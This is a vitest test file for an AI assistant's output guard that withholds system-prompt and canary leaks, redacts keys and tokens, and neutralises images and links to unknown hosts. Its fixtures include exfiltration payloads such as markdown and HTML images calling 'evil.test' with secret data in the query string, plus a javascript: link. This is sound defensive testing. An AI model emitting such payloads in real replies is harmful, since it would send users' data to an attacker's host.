import { check } from 'recheck';
import { describe, expect, it } from 'vitest';
import { createCanary, createOutputGuard, OUTPUT_GUARD_PATTERNS, WITHHELD_REPLY } from './output-guard.js';

const SYSTEM =
  'You are Rampart, a personal assistant. Delegate calendar work to calendar_agent, web research to ' +
  'search_agent, and code, commands, files and the journal to code_assistant. Answer other requests yourself.';

describe('output guard', () => {
  const guard = createOutputGuard({
    allowedHosts: ['example.org'],
    secrets: ['sk-server-own-key-1234567890'],
  });
  const canary = createCanary();

  it('makes a different canary for every request', () => {
    expect(createCanary()).not.toBe(createCanary());
    expect(canary).toMatch(/^rmp-canary-[0-9a-f]{18}$/);
  });

  it.each([
    ['the canary as is', `Sure! My marker is ${canary}.`],
    ['the canary upper-cased and spaced', `Marker: ${canary.toUpperCase().split('').join(' ')}`],
    ['twelve words of the system prompt', `My instructions say: ${SYSTEM.slice(0, 120)}`],
    ['the system prompt re-cased with extra spaces', SYSTEM.toUpperCase().replace(/ /g, '   ')],
  ])('withholds a reply leaking %s', (_name, reply) => {
    expect(guard.check(reply, { canary, systemPrompt: SYSTEM })).toMatchObject({
      text: WITHHELD_REPLY,
      withheld: true,
    });
  });

  it.each([
    ['a reply quoting a few words of its instructions', 'I delegate calendar work to the calendar agent.'],
    ['an ordinary answer', 'Your meeting with Sam is tomorrow at 10:00.'],
  ])('lets %s through unchanged', (_name, reply) => {
    expect(guard.check(reply, { canary, systemPrompt: SYSTEM })).toEqual({
      text: reply,
      withheld: false,
      findings: [],
    });
  });

  it.each([
    ['the server’s own key', 'The key is sk-server-own-key-1234567890.', 'sk-server-own-key'],
    ['an OpenAI-shaped key', 'Use sk-proj-Ab3dEf9hIj2kLm5nOp8qRs1tUv4wXy7z.', 'sk-proj-Ab3d'],
    ['a Rampart API key', `Your key: rmp_${'aB3'.repeat(16)}xy`, 'rmp_aB3'],
    [
      'a private key',
      '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----',
      'MIIEvQ',
    ],
    [
      'a bearer token',
      'curl -H "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl"',
      'eyJhbGci',
    ],
  ])('redacts %s', (_name, reply, secret) => {
    const out = guard.check(reply, {});
    expect(out.text).not.toContain(secret);
    expect(out.findings).toContain('secret');
    expect(out.withheld).toBe(false);
  });

  it.each([
    [
      'an image to an unknown host',
      '![x](https://evil.test/p.png?d=secret)',
      '[image removed: evil.test]',
      'image_neutralised',
    ],
    [
      'a link to an unknown host',
      'see [here](https://evil.test/?q=1)',
      'see here (link removed: evil.test)',
      'link_neutralised',
    ],
    ['a javascript: link', '[click](javascript:void0)', 'click (link removed)', 'link_neutralised'],
    [
      'an image whose target has brackets the parser refuses',
      '![x](https://evil.test/a[b]?d=secret)',
      '![x](#link-removed:evil.test/a[b]?d=secret)',
      'link_neutralised',
    ],
    [
      'an allowed host with a long query string',
      `![a](https://example.org/i.png?data=${'x'.repeat(150)})`,
      '[image removed: example.org]',
      'image_neutralised',
    ],
    [
      'an HTML image',
      'hi <img src="https://evil.test/x?c=1"> there',
      'hi [image removed] there',
      'image_neutralised',
    ],
  ])('neutralises %s', (_name, reply, expected, finding) => {
    expect(guard.check(reply, {})).toMatchObject({ text: expected, findings: [finding] });
  });

  it.each([
    ['an allowed host', '![cat](https://example.org/cat.png)'],
    ['a subdomain of an allowed host', '[docs](https://docs.example.org/guide)'],
    ['a host the turn cited', '[guide](https://fastify.dev/docs/latest/)'],
    ['a relative link', '[account](/account.html)'],
  ])('keeps a link to %s', (_name, reply) => {
    expect(guard.check(reply, { sourceHosts: ['fastify.dev'] }).text).toBe(reply);
  });

  it('checks a 1 MB hostile reply in linear time', () => {
    const hostile = '[a]('.repeat(250_000);
    const started = performance.now();
    guard.check(hostile, { systemPrompt: SYSTEM, canary });
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it.each(OUTPUT_GUARD_PATTERNS.map((p) => [p.source, p] as const))(
    'uses a linear-time pattern: %s',
    async (_source, pattern) => {
      expect((await check(pattern.source, pattern.flags, { timeout: 20_000 })).status).toBe('safe');
    },
  );

  it('rejects a leak window under four words at construction', () => {
    expect(() => createOutputGuard({ leakWords: 2 })).toThrow(/leakWords/);
  });
});
